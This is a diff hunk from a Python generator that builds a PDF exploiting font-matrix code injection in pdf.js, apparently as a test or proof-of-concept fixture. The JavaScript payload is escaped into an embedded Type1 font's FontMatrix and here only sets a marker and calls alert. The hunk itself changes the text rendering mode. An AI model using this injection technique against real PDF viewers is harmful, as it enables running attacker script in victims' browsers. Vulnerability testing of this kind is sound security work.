@@ -79,7 +79,7 @@ def font_matrix_injection_pdf() -> bytes:
         f"1); window.{CVE_MARKER} = 1; console.log('{CVE_MARKER}'); alert('{CVE_MARKER}'"
     ).encode()
     escaped = payload.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
-    content = b"BT /F1 24 Tf 72 720 Td (Hello) Tj 3 Tr 72 680 Td (Clip) Tj ET"
+    content = b"BT /F1 24 Tf 72 720 Td (Hello) Tj 7 Tr 0 -40 Td (Clip) Tj ET"
     # A minimal (not valid) embedded Type1 program: pdf.js falls back to drawing glyph
     # outlines, the path on which the matrix was compiled.
     font_program = b"%!PS-AdobeFont-1.0: Payload 001.001\n/FontMatrix [0.001 0 0 0.001 0 0] readonly def\n"
